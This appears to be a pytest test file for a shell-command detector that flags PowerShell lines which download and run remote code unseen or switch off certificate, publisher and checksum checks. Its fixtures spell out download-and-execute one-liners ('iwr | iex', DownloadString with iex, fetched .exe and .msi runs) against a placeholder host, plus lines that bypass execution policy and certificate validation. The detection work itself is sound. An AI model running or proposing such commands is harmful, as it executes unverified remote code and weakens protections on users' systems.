"""What PowerShell downloads and runs, and which verifications it leaves out."""

from __future__ import annotations

import pytest

from batten.detect.shell import downloads_unseen, is_powershell, switched_off


@pytest.mark.parametrize(
    "text",
    [
        "iex ((New-Object System.Net.WebClient).DownloadString('https://x.example/install.ps1'))",
        "Set-ExecutionPolicy Bypass -Scope Process -Force; iex (irm https://x.example/a.ps1)",
        "iwr -useb https://x.example/y.ps1 | iex",
        "Invoke-WebRequest https://x.example/y.ps1 | Select-Object -Expand Content | Invoke-Expression",
        "& ([scriptblock]::Create((irm https://x.example/a.ps1))) -Channel 9.0",
        "$s = (iwr https://x.example/a.ps1).Content; iex $s",
        "(New-Object Net.WebClient).DownloadString('https://x.example/a') | IEX",
    ],
)
def test_run_at_once(text: str) -> None:
    assert [one.path for one in downloads_unseen(text)] == [""]


@pytest.mark.parametrize(
    "text",
    [
        r"Invoke-WebRequest https://x.example/y.exe -OutFile y.exe; .\y.exe /quiet",
        r"iwr 'https://x.example/y.msi' -OutFile 'C:\y.msi'; Start-Process msiexec -Args '/i', 'C:\y.msi' -Wait",
        r"(New-Object Net.WebClient).DownloadFile('https://x.example/y.exe', 'C:\tmp\y.exe'); & C:\tmp\y.exe",
        "curl.exe -o y.ps1 https://x.example/y.ps1\n./y.ps1",
    ],
)
def test_kept_and_run(text: str) -> None:
    [one] = downloads_unseen(text)
    assert one.path.lower().endswith(("y.exe", "y.msi", "y.ps1"))


@pytest.mark.parametrize(
    "text",
    [
        "Invoke-WebRequest https://x.example/y.zip -OutFile y.zip; Expand-Archive y.zip",
        "iwr https://x.example/y.exe -OutFile y.exe; Remove-Item y.exe",
        r"iwr https://x.example/y.exe -OutFile y.exe; if ((Get-FileHash y.exe).Hash -ne 'A') { exit 1 }; .\y.exe",
        r"iwr https://x.example/y.exe -OutFile y.exe; .\my.exe",
        "iwr https://x.example/status",
        "Write-Host 'iex is short for Invoke-Expression'",
    ],
)
def test_nothing_is_run_unseen(text: str) -> None:
    assert downloads_unseen(text) == []


@pytest.mark.parametrize(
    "text",
    [
        "iwr -SkipCertificateCheck https://x.example",
        "[System.Net.ServicePointManager]::ServerCertificateValidationCallback = { $true }",
        "Install-Module Pester -SkipPublisherCheck -Force",
        "choco install x --ignore-checksums",
    ],
)
def test_a_verification_is_switched_off(text: str) -> None:
    [off] = switched_off(text)
    assert text[off.start : off.end] == off.text


@pytest.mark.parametrize("text", ["iwr -SkipCertificateCheck:$false https://x.example", "choco install x"])
def test_a_verification_stays(text: str) -> None:
    assert switched_off(text) == []


def test_what_is_powershell() -> None:
    assert is_powershell("iex 1", ("powershell", "-Command"))
    assert is_powershell("pwsh -c 'iex 1'", ("/bin/sh", "-c"))
    assert not is_powershell("iex -S mix", ("/bin/sh", "-c"))


def test_a_long_script_takes_no_longer_than_its_length() -> None:
    assert downloads_unseen("iwr https://x.example -OutFile a.zip $a = irm " * 4_000) == []
